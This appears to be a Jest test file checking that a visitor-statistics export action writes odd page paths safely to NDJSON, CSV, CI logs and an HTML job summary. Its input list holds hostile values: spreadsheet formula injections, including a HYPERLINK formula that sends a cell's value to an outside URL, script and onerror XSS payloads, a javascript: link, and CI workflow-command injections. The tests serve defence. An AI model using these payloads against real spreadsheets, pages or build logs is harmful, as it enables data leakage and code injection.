import { beforeAll, describe, expect, test } from '@jest/globals';
import type { DefaultTreeAdapterTypes } from 'parse5';
import type { StepResult } from '../../../sandbox/runner/step.ts';
import { htmlTree } from '../../support/rendered-html.ts';
import { liveThings } from '../../support/rendered-markdown.ts';
import { cellsOf, countedBySets, createExportScene, type Form, pagesOf, rowsIn } from '../../support/visitors-scene.ts';

const ODD = [
  ...['/"quoted"', '"', '""', "/it's", "'", '/a,b', ',', '/a;b', ';=1+1', '/a\nb', '/a\r\nb', '/a\rb', '\r=1+1'],
  ...['=1+1', '=HYPERLINK("http://example.com/?"&A1,"x")', '+1', '-1', '@SUM(1)', '\t=1', '|cmd', '%0A=1', ' =1+1'],
  ...[
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\uff1d1+1',
    '\u0000=1',
    '/nul\u0000',
    '/emoji-👩‍💻-é-e\u0301-漢字',
    '/\u202egnp.exe',
    '   ',
    '\n',
  ],
  ...['/<script>alert(1)</script>', '</code></td></tr></table><img src=x onerror=alert(1)>', '<!-- ', '&lt;b&gt;&#64;'],
  ...[
    '`',
    '```',
    '/`code`',
    '`` ` ``',
    '/a|b',
    '/a\\|b',
    '\\',
    '/**bold**',
    '[x](javascript:alert(1))',
    '![x](//e.example/i)',
  ],
  ...[
    '@alice',
    'mail@example.com',
    '/#1',
    'acme/docs#1',
    'https://example.com',
    'www.example.com',
    '/a # b',
    '~~~',
    '---',
  ],
  ...[
    '::error::boom',
    '\n::error::boom',
    '/x\r::set-output name=verdict::error',
    '##[error]boom',
    '\n::add-mask::visitors',
  ],
  ...['%%{init: {}}%%', '\n```\n# Heading', '"]\n```\n\n@alice', '#8203;', '#quot;', 'path', 'null', '__proto__'],
  ...[`/${'x'.repeat(997)}`, `/${'👩'.repeat(498)}`],
];
/** The one for the ranking, the other for the file too. */
const TOO_LONG = [`/${'z'.repeat(1_000)}`, `/${'y'.repeat(8_192)}`];

const PATHS = [...ODD, ...TOO_LONG];
const VISITORS = { pages: PATHS.length, seed: 11, paths: PATHS };
const COUNTED = countedBySets(VISITORS);
/** Those of the file; the last of them is not ranked. */
const ROWS = COUNTED.rows.map((row, at) => ({ ...row, path: PATHS[at] ?? '' })).slice(0, -TOO_LONG.length);

async function exported(form: Form) {
  await using scene = await createExportScene({ visitors: VISITORS });
  const file = `visitors.${form}`;
  const result = await scene.run({ 'visitors-file': file, top: '256' });
  expect(result).toMatchObject({ exitCode: 0, outputs: { verdict: 'exported', visitorsFile: file } });
  return { result, text: scene.read(file) };
}

test('an NDJSON file and the output `pages` have every odd path exactly', async () => {
  const { result, text } = await exported('ndjson');
  expect(rowsIn(text, 'ndjson')).toEqual(ROWS);
  const byPath = (rows: typeof ROWS) => rows.toSorted((one, other) => (one.path < other.path ? -1 : 1));
  expect(byPath(pagesOf(result))).toEqual(byPath(ROWS));
});

describe('an export of odd paths to CSV', () => {
  let result: StepResult;
  let text: string;

  beforeAll(async () => {
    ({ result, text } = await exported('csv'));
  });

  test('writes every path, and none as a formula', () => {
    const [, ...rows] = cellsOf(text);
    const paths = rows.map(([path = '']) => path);
    // An apostrophe tells a spreadsheet that text follows.
    expect(paths.map((path, at) => (path === PATHS[at] ? path : path.replace(/^'/, '')))).toEqual(ODD);
    expect(paths.filter((path) => /^[\s\p{C}]*[=+\-@\uff1d\t\r]/u.test(path))).toEqual([]);
    expect(rows.map(([, ...numbers]) => numbers.map(Number))).toEqual(
      ROWS.map(({ human, ai, total }) => [human, ai, total]),
    );
    expect(paths.filter((path, at) => path !== PATHS[at]).length).toBeLessThan(25);
    // A reader that splits at semicolons, quotes or not, finds no formula either: all paths are in quotes.
    expect(
      text
        .split('"')
        .filter((_, at) => at % 2 === 0)
        .join(''),
    ).not.toMatch(/[;=+@-]/);
  });

  test('leaves out paths that are too long, and counts them', () => {
    for (const place of [result.log, result.summary, result.outputs.summary]) {
      expect(place).toContain('2 rows without a valid path or numbers left out.');
      expect(place).not.toMatch(/yyyy|zzzz/);
    }
    expect(result.outputs.pages).not.toMatch(/yyyy|zzzz/);
  });

  test('writes no line into the log that is a command because of them', () => {
    const commands = result.commands.filter(({ name }) => name !== 'add-mask');
    expect(commands).toEqual([expect.objectContaining({ name: 'warning', message: expect.stringMatching(/^📊 /) })]);
    expect(result.masks.some((mask) => mask.includes('visitors'))).toBe(false);
    expect(result.rawLog).not.toContain('boom');
  });

  test('writes a job summary of two tables, in which nothing of theirs is alive', () => {
    const nodes = all(htmlTree(result.summary));
    const count = (name: string) => nodes.filter(({ nodeName }) => nodeName === name).length;
    expect([count('table'), count('h2'), count('h3')]).toEqual([2, 1, 1]);
    const names = new Set(nodes.map(({ nodeName }) => nodeName));
    const ours = ['p', 'br', 'h2', 'h3', 'code', 'table', 'thead', 'tbody', 'tr', 'th', 'td'];
    expect([...names].filter((name) => !['#document-fragment', '#text', ...ours].includes(name))).toEqual([]);

    const ranking = nodes.filter(({ nodeName }) => nodeName === 'table').at(-1);
    const lines = ranking ? all(ranking).filter(({ nodeName }) => nodeName === 'tr') : [];
    expect(lines).toHaveLength(ROWS.length + 1);
    for (const line of lines) expect(all(line).filter(({ nodeName }) => /^t[hd]$/.test(nodeName))).toHaveLength(6);
    expect(liveThings(result.summary)).toEqual([]);
  });
});

type Node = DefaultTreeAdapterTypes.Node;

/** A node, and all below it. */
const all = (node: Node): Node[] => [node, ...('childNodes' in node ? node.childNodes.flatMap(all) : [])];
